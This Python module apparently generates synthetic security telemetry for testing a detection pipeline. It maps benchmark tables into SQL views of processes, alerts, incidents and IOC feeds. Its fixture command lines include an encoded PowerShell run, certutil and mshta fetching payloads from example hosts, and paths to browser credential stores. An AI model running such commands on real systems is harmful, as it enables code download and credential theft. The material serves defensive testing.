"""Deterministic mapping from the driver tables to telemetry tables.

The driver tables hold no security telemetry, so the registered queries read
them through these projections.  The text is portable: Spark runs it on the
DataFrames, and the same text opens the DuckDB oracle as common table
expressions, so both sides start from the same rows.
Event time is compressed sixty-fold (one minute becomes one second) so that
the 60 s and 300 s windows meet data.
"""

from __future__ import annotations

import re

from pyspark.sql import DataFrame, SparkSession

BASE_TABLES = (
    "region nation customer supplier part orders lineitem events documents "
    "embeddings pages benchmark labels conversations"
).split()

BS = "chr(92)"
S = lambda e: f"CAST({e} AS STRING)"


def _case(selector: str, *values: str) -> str:
    arms = " ".join(f"WHEN {i} THEN {v}" for i, v in enumerate(values[:-1]))
    return f"CASE {selector} {arms} ELSE {values[-1]} END"


def _path(*parts: str) -> str:
    return f" || {BS} || ".join(parts)


VIEWS: dict[str, str] = {}

VIEWS["base_ev"] = f"""
SELECT event_id AS seq,
       1704067200000000 + CAST(floor(({{us:ts}} - 1704067200000000) / CAST(60 AS DOUBLE)) AS BIGINT) AS ts_us,
       user_id AS uid, event_type AS et, value,
       CAST(regexp_extract(props, '([0-9]+)', 1) AS BIGINT) AS k
FROM events"""

VIEWS["named_ev"] = f"""
SELECT seq, ts_us, uid, et, value, k,
       {_case('k % 12', "'chrome.exe'", "'powershell.exe'", "'winword.exe'", "'cmd.exe'",
              "'svchost.exe'", "'certutil.exe'", "'excel.exe'", "'Explorer.EXE'", "'mshta.exe'",
              "'notepad.exe'", "'obs64.exe'", "'rundll32.exe'")} AS name
FROM base_ev"""

VIEWS["tele"] = f"""
SELECT seq, 'evt-' || {S('seq')} AS event_id, ts_us,
       'host' || {S('uid % 20')} AS host,
       CASE et WHEN 'click' THEN 'network' WHEN 'view' THEN 'network'
               WHEN 'purchase' THEN 'process' WHEN 'signup' THEN 'file' ELSE 'eventlog' END AS sensor,
       CASE et WHEN 'click' THEN 'connection' WHEN 'view' THEN 'dns_query'
               WHEN 'purchase' THEN 'process_new' WHEN 'signup' THEN 'file_change'
               ELSE 'security_event' END AS event_type,
       CASE WHEN value >= 150 THEN 'critical' WHEN value >= 90 THEN 'high'
            WHEN value >= 40 THEN 'medium' WHEN value >= 15 THEN 'low' ELSE 'info' END AS severity,
       value, uid, k, k + 1 AS pid,
       CASE WHEN k % 10 = 0 THEN 0 ELSE (k * 7) % 100 + 1 END AS ppid,
       name,
       {_case('(seq + k) % 6', "'winword.exe'", "'excel.exe'", "'explorer.exe'", "'cmd.exe'",
              "'services.exe'", "'chrome.exe'")} AS parent_name,
       CASE WHEN seq % 3 = 0
            THEN {_path("'C:'", "'Users'", "'u' || " + S('uid'), "'AppData'", "'Local'", "'Temp'", 'name')}
            ELSE {_path("'C:'", "'Windows'", "'System32'", 'name')} END AS exe,
       {_case('seq % 7',
              "'powershell.exe -nop -enc ' || 'SQBFAFgAIABjAGEAbABjAC4AZQB4AGUA' || " + S('k'),
              "'certutil.exe -urlcache -split -f http://files.example.com/a.bin'",
              "'mshta.exe http://pages.example.com/x.hta'",
              "'cmd.exe /c whoami /all'",
              "'rundll32.exe javascript:' || " + S('seq'),
              "'certutil -decode in.txt out' || " + S('k') + " || '.exe'",
              "'notepad.exe report' || " + S('seq') + " || '.txt'")} AS cmdline,
       {_case('seq % 5', "'10.0.0.' || " + S('k'), "'8.8.8.8'", "'192.168.1.' || " + S('k'),
              "'203.0.113.' || " + S('k'), "'203.0.113.' || " + S('k % 7'))} AS remote_ip,
       {_case('k % 5', '443', '80', '53', '8443', '1024 + k * 13')} AS remote_port,
       CASE WHEN seq % 3 = 0 THEN 'UDP' ELSE 'TCP' END AS protocol,
       {_case('k % 4', "'ESTABLISHED'", "'TIME_WAIT'", "'LISTEN'", "'CLOSE_WAIT'")} AS conn_status,
       CAST(floor(value * 100000) AS BIGINT) AS bytes_sent,
       {_case('seq % 5', "'www.example.com'",
              f"substr(md5({S('k')}), 1, 16) || '.xyz'",
              f"md5({S('seq')}) || substr(md5({S('k')}), 1, 25) || '.t.example.net'",
              f"'mail' || {S('k % 7')} || '.corp.example.org'",
              f"'kq' || substr(md5({S('k')}), 1, 12) || 'zx.com'")} AS domain,
       {_case('seq % 9',
              _path("'C:'", "'Users'", "'u' || " + S('uid'), "'Documents'", "'f' || " + S('seq') + " || '.docx'"),
              _path("'C:'", "'Users'", "'u' || " + S('uid'), "'Downloads'", 'name'),
              _path("'c:'", "'windows'", "'system32'", "'drivers'", "'d' || " + S('k') + " || '.sys'"),
              _path("'C:'", "'Users'", "'u' || " + S('uid'), "'Chrome'", "'Login Data'"),
              _path("'C:'", "'Start Menu'", "'Programs'", "'Startup'", "'s' || " + S('k') + " || '.lnk'"),
              _path("'C:'", "'Temp'", "'t' || " + S('seq') + " || '.locked'"),
              _path("'D:'", "'data'", "'p' || " + S('k') + " || '.ps1'"),
              _path("'D:'", "'data'", "'vault.db'"),
              _path("'D:'", "'share'", "'r' || " + S('seq % 50') + " || '.txt'"))} AS path,
       CAST({_case('seq % 10', '4625', '4625', '4672', '4688', '7045', '4720', '4732', '4724', '4104', '1074')} AS INT) AS code,
       CASE WHEN k % 3 = 0 THEN 'Failure' ELSE 'success' END AS auth_status
FROM named_ev"""

VIEWS["alerts"] = f"""
SELECT 'alt-' || {S('seq')} AS alert_id, event_id, seq, ts_us, host, sensor,
       CASE sensor WHEN 'network' THEN CASE event_type WHEN 'dns_query' THEN 'dns_tunneling' ELSE 'network_beacon' END
                   WHEN 'process' THEN CASE WHEN k % 2 = 0 THEN 'fileless_lolbin_abuse' ELSE 'registry_persistence' END
                   WHEN 'file' THEN 'yara_Ransomware_Note_Generic' ELSE 'brute_force' END AS alert_type,
       severity,
       CASE event_type WHEN 'dns_query' THEN 'DNS threat: ' || domain ELSE 'Alert on ' || name END AS title,
       'seen on ' || host AS description,
       0.30 + (k % 70) / 100.0 AS confidence,
       {_case('k % 5', "'new'", "'investigating'", "'resolved'", "'dismissed'", "'auto_suppressed'")} AS status,
       {_case('seq % 6', "'T1059.001'", "'T1071'", "'T1486,T1059'", "'T1547.001'", "'T1566,T9999'", "''")} AS mitre,
       CASE WHEN sensor = 'process' THEN pid END AS a_pid,
       CASE WHEN sensor = 'network' THEN remote_ip END AS a_ip,
       CASE WHEN sensor = 'file' THEN path END AS a_path,
       CASE WHEN event_type = 'dns_query' THEN domain END AS a_domain,
       k
FROM tele WHERE value >= 15"""

VIEWS["incident_alerts"] = f"""
SELECT 'inc-' || host || '-' || {S('CAST(floor(ts_us / CAST(600000000 AS DOUBLE)) AS BIGINT)')} AS incident_id,
       alert_id, seq, ts_us, host, severity, title, mitre, a_pid, a_ip, a_path, a_domain
FROM alerts"""

VIEWS["incidents"] = """
SELECT incident_id, min(ts_us) AS first_us, max(ts_us) AS last_us, min(host) AS host,
       CASE WHEN max(seq) % 3 = 0 THEN 'open' ELSE 'closed' END AS status,
       CASE WHEN max(seq) % 4 = 0 THEN 'critical' WHEN max(seq) % 4 = 1 THEN 'high' ELSE 'medium' END AS severity,
       'Incident ' || incident_id AS title
FROM incident_alerts GROUP BY incident_id"""

VIEWS["executions"] = f"""
SELECT 'exec-' || {S('o_orderkey')} AS execution_id, o_orderkey AS okey,
       'alt-' || {S('o_custkey')} AS alert_id, o_orderpriority AS playbook,
       CASE o_orderstatus WHEN 'F' THEN 'completed' WHEN 'O' THEN 'running' ELSE 'aborted' END AS status,
       {{us:o_orderdate}} + o_orderkey AS ts_us
FROM orders"""

VIEWS["step_log"] = f"""
SELECT 'exec-' || {S('l_orderkey')} AS execution_id, l_linenumber AS step_index,
       CASE l_returnflag WHEN 'R' THEN 'executed' WHEN 'A' THEN 'skipped'
            ELSE CASE l_linestatus WHEN 'F' THEN 'failed' ELSE 'pending' END END AS status,
       {{us:l_shipdate}} AS ts_us,
       l_partkey * 1000000 + l_suppkey * 1000 + CAST(l_quantity AS BIGINT) AS tie
FROM lineitem"""

VIEWS["feedback"] = f"""
SELECT 'alt-' || {S('o_orderkey')} AS alert_id,
       'type' || {S('o_custkey % 40')} AS alert_type,
       {_case('o_custkey % 4', "'network'", "'process'", "'file'", "'eventlog'")} AS sensor,
       CASE WHEN o_orderpriority IN ('1-URGENT') THEN 'investigate' ELSE 'dismiss' END AS action
FROM orders WHERE o_orderstatus = 'P'"""

VIEWS["feed_runs"] = f"""
SELECT o_orderpriority AS feed_name, o_orderkey AS run_id,
       {{us:o_orderdate}} + o_orderkey * 1000000 AS ts_us,
       CASE WHEN o_orderstatus = 'P' OR o_orderpriority = '5-LOW' AND o_orderkey % 3 > 0 THEN 0 ELSE 1 END AS ok,
       o_custkey % 50 AS n_iocs,
       CASE WHEN o_orderstatus = 'P' THEN 'timeout ' || {S('o_orderkey % 7')} ELSE 'bad status' END AS error
FROM orders"""

VIEWS["ioc_feed"] = f"""
SELECT {_case('c_custkey % 4', "'ip'", "'domain'", "'hash'", "'url'")} AS ioc_type,
       {_case('c_custkey % 4', "'203.0.113.' || " + S('c_custkey % 60'),
              f"substr(md5({S('c_custkey % 40')}), 1, 16) || '.xyz'",
              f"md5({S('c_custkey % 300')})",
              f"'http://bad' || {S('c_custkey % 90')} || '.example.com/'")} AS value,
       lower(c_mktsegment) AS source,
       {_case('c_nationkey % 4', "'low'", "'medium'", "'high'", "'critical'")} AS severity,
       1704067200000000 + c_custkey * 1000000 AS updated_us
FROM customer"""

VIEWS["ioc"] = """
SELECT ioc_type, value, min_by(source, updated_us) AS source, max_by(severity, updated_us) AS severity,
       min(updated_us) AS first_us, max(updated_us) AS updated_us
FROM ioc_feed GROUP BY ioc_type, value"""

VIEWS["reputation"] = f"""
SELECT '203.0.113.' || {S('c_custkey')} AS address,
       CASE WHEN c_acctbal < 0 THEN 0.0 WHEN c_acctbal > 10000 THEN 100.0
            ELSE floor(c_acctbal / 100.0) END AS score
FROM customer"""

VIEWS["whitelist"] = f"""
SELECT 'wl-' || {S('s_suppkey')} AS entry_id,
       {_case('s_suppkey % 5', "'process'", "'file'", "'ip'", "'domain'", "'device'")} AS entry_type,
       {_case('s_suppkey % 5',
              "'notepad.exe'",
              _path("'D:'", "'share'", "'r' || " + S('s_suppkey % 50') + " || '.txt'"),
              "'10.0.0.' || " + S('s_suppkey'),
              "'mail' || " + S('s_suppkey % 7') + " || '.corp.example.org'",
              "'dev' || " + S('s_suppkey'))} AS value,
       CASE WHEN s_nationkey % 3 = 0 THEN 0
            ELSE 1704067200000000 + s_suppkey * 400000000 END AS expires_us,
       CASE WHEN s_acctbal > 1000 THEN true ELSE false END AS enabled
FROM supplier"""

VIEWS["snap"] = """
SELECT host, CAST(floor((ts_us - 1704067200000000) / CAST(3600000000 AS DOUBLE)) AS BIGINT) AS cycle, pid,
       min(name) AS name, min(exe) AS exe, max(value) AS value, max(path) AS path
FROM tele GROUP BY host, CAST(floor((ts_us - 1704067200000000) / CAST(3600000000 AS DOUBLE)) AS BIGINT), pid"""

VIEWS["modules"] = f"""
SELECT p_partkey % 40 AS pid, p_partkey * 65536 AS base, 4096 + (p_size * 1000) AS size,
       p_name AS module, p_partkey AS mid
FROM part"""

VIEWS["threads"] = """
SELECT l_partkey % 40 AS pid, l_orderkey * 10 + l_linenumber AS thread_id,
       CASE WHEN l_suppkey % 17 = 0 THEN 0
            ELSE l_partkey * 65536 + CAST(l_quantity AS BIGINT) * 900 END AS start_address
FROM lineitem"""

VIEWS["audit"] = f"""
SELECT seq AS log_id, ts_us,
       CASE WHEN seq % 3 = 0 THEN 'response' ELSE 'detection' END AS component,
       CASE WHEN seq % 3 = 0 THEN 'action_executed' ELSE 'alert_raised' END AS action,
       CASE WHEN seq % 11 = 0 THEN 'not json ' || {S('seq')}
            WHEN seq % 3 = 0 THEN '{{"log_type":"action_result","action_type":"block_ip","success":true}}'
            ELSE '{{"log_type":"alert","severity":"' || severity || '","alert_type":"' || alert_type || '"}}' END AS detail
FROM alerts"""

VIEWS["hunt_events"] = f"""
SELECT seq, event_id, ts_us, host, sensor, severity, cmdline, parent_name, remote_ip, bytes_sent, domain, path,
       CASE event_type WHEN 'connection' THEN 'connection' WHEN 'dns_query' THEN 'dns' WHEN 'process_new' THEN 'process_create'
            WHEN 'file_change' THEN 'file_create'
            ELSE {_case('seq % 7', "'auth'", "'smb'", "'rdp'", "'registry'", "'scheduled_task'", "'service_install'", "'wmi'")} END AS event_type,
       CASE WHEN seq % 2 = 0 THEN 'outbound' ELSE 'inbound' END AS direction,
       CASE WHEN k % 3 = 0 THEN 'failed' ELSE 'ok' END AS status, CAST(k % 2 AS INT) AS is_signed
FROM tele"""


def _needed(text: str) -> list[str]:
    """Views mentioned in ``text``, dependencies first."""
    order: list[str] = []

    def visit(name: str) -> None:
        if name in order:
            return
        for word in re.findall(r"\bFROM\s+([a-z_]+)", VIEWS[name]):
            if word in VIEWS:
                visit(word)
        order.append(name)

    for word in VIEWS:
        if re.search(rf"\b(FROM|JOIN)\s+{word}\b", text):
            visit(word)
    return order


def duckdb_text(sql: str) -> str:
    """Prefix an oracle query with the views it uses, in DuckDB's dialect."""
    ctes = [
        f"{name} AS ({re.sub(r'[{]us:([a-z_]+)[}]', r'epoch_us(\1)', VIEWS[name])})"
        for name in _needed(sql)
    ]
    if not ctes:
        return sql.strip()
    body = sql.strip()
    if body.upper().startswith("WITH RECURSIVE"):
        return f"WITH RECURSIVE {', '.join(ctes)}, {body[len('WITH RECURSIVE'):].strip()}"
    if body.upper().startswith("WITH "):
        return f"WITH {', '.join(ctes)}, {body[5:].strip()}"
    return f"WITH {', '.join(ctes)} {body}"


class Tables:
    """Lazy access to the driver tables and the telemetry views on them."""

    def __init__(self, spark: SparkSession, folder: str) -> None:
        self.spark, self.folder = spark, folder
        self._frames: dict[str, DataFrame] = {}

    def stream(self, name: str) -> DataFrame:
        """A view over the streaming form of its base table."""
        from wardline.streaming.replay import table_stream

        twin = Tables(self.spark, self.folder)
        for base in ("events", "orders", "customer"):
            twin._frames[base] = table_stream(self.spark, self.folder, base)
        return getattr(twin, name)

    def __getattr__(self, name: str) -> DataFrame:
        if name.startswith("_") or name not in VIEWS and name not in BASE_TABLES:
            raise AttributeError(name)
        if name not in self._frames:
            if name in BASE_TABLES:
                frame = self.spark.read.parquet(f"{self.folder}/{name}.parquet")
            else:
                frame = self._view(name)
            self._frames[name] = frame
        return self._frames[name]

    def _view(self, name: str) -> DataFrame:
        text = re.sub(r"[{]us:([a-z_]+)[}]", r"unix_micros(CAST(\1 AS TIMESTAMP))", VIEWS[name])
        sources = {
            word: getattr(self, word)
            for word in set(re.findall(r"\bFROM\s+([a-z_]+)", text))
        }
        text = text.replace("{", "{{").replace("}", "}}")
        text = re.sub(r"\bFROM\s+([a-z_]+)", r"FROM {\1}", text)
        return self.spark.sql(text, **sources)
